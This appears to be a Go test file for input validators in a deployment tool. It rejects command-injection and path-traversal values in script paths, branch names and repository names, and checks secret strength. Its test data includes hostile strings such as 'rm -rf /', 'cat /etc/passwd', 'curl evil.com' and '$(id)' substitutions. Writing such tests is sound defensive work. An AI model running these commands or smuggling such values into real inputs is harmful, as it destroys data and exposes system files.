package security

import (
	"strings"
	"testing"
)

func TestValidateScriptPath(t *testing.T) {
	tests := []struct {
		name    string
		path    string
		wantErr bool
	}{
		// Valid cases
		{"absolute path", "/opt/deploy/run.sh", false},
		{"absolute with dashes", "/opt/my-app/deploy-all.sh", false},
		{"absolute with dots", "/opt/app/deploy.v2.sh", false},
		{"absolute with redundant slash", "/opt//deploy/run.sh", false},
		{"absolute with current dir segment", "/opt/./deploy/run.sh", false},

		// Command injection attempts
		{"semicolon", "/opt/deploy.sh; rm -rf /", true},
		{"pipe", "/opt/deploy.sh | cat /etc/passwd", true},
		{"ampersand", "/opt/deploy.sh && curl evil.com", true},
		{"backtick", "/opt/deploy`whoami`.sh", true},
		{"dollar", "/opt/deploy$(id).sh", true},
		{"redirect out", "/opt/deploy.sh > /etc/cron.d/x", true},
		{"redirect in", "/opt/deploy.sh < /etc/passwd", true},
		{"newline", "/opt/deploy.sh\nrm -rf /", true},

		// Relative / traversal paths
		{"relative path", "deploy.sh", true},
		{"relative with dir", "./scripts/deploy.sh", true},
		{"traversal", "/opt/../etc/passwd", true},
		{"traversal at start", "../deploy.sh", true},

		// Degenerate input
		{"empty", "", true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateScriptPath(tt.path)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateScriptPath(%q) error = %v, wantErr %v", tt.path, err, tt.wantErr)
			}
		})
	}
}

func TestValidateBranchName(t *testing.T) {
	tests := []struct {
		name    string
		branch  string
		wantErr bool
	}{
		{"main", "main", false},
		{"master", "master", false},
		{"with slash", "feature/login", false},
		{"with dots", "release-1.2", false},
		{"with underscore", "fix_bug", false},

		{"empty", "", true},
		{"leading dash", "-rf", true},
		{"semicolon", "main;reboot", true},
		{"space", "main branch", true},
		{"backtick", "main`id`", true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateBranchName(tt.branch)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateBranchName(%q) error = %v, wantErr %v", tt.branch, err, tt.wantErr)
			}
		})
	}
}

func TestValidateRepoName(t *testing.T) {
	tests := []struct {
		name    string
		repo    string
		wantErr bool
	}{
		{"standard", "octo/widgets", false},
		{"underscores", "my_org/my_repo", false},
		{"dots", "octo/repo.name", false},
		{"dashes", "my-org/my-repo", false},

		{"empty", "", true},
		{"no slash", "octowidgets", true},
		{"too many slashes", "a/b/c", true},
		{"leading dash", "-octo/widgets", true},
		{"leading dot", ".octo/widgets", true},
		{"shell chars", "octo/widgets;id", true},
		{"space", "octo/wid gets", true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateRepoName(tt.repo)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateRepoName(%q) error = %v, wantErr %v", tt.repo, err, tt.wantErr)
			}
		})
	}
}

func TestValidateSecret(t *testing.T) {
	tests := []struct {
		name    string
		secret  string
		wantErr bool
	}{
		{"valid random", "b4f9c2e8a1d7f3b6c0e5", false},
		{"valid long", strings.Repeat("x7", 20), false},

		{"empty", "", true},
		{"too short", "short", true},
		{"placeholder", "replace-with-secret", true},
		{"placeholder substring", "please-replace-me-with-a-real-one", true},
		{"changeme variant", "changeme-changeme-changeme", true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateSecret(tt.secret)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateSecret(%q) error = %v, wantErr %v", tt.secret, err, tt.wantErr)
			}
		})
	}
}

func TestGenerateSecret(t *testing.T) {
	s1, err := GenerateSecret(32)
	if err != nil {
		t.Fatalf("GenerateSecret failed: %v", err)
	}
	s2, err := GenerateSecret(32)
	if err != nil {
		t.Fatalf("GenerateSecret failed: %v", err)
	}

	if s1 == s2 {
		t.Error("Expected two generated secrets to differ")
	}
	if err := ValidateSecret(s1); err != nil {
		t.Errorf("Generated secret failed validation: %v", err)
	}
}
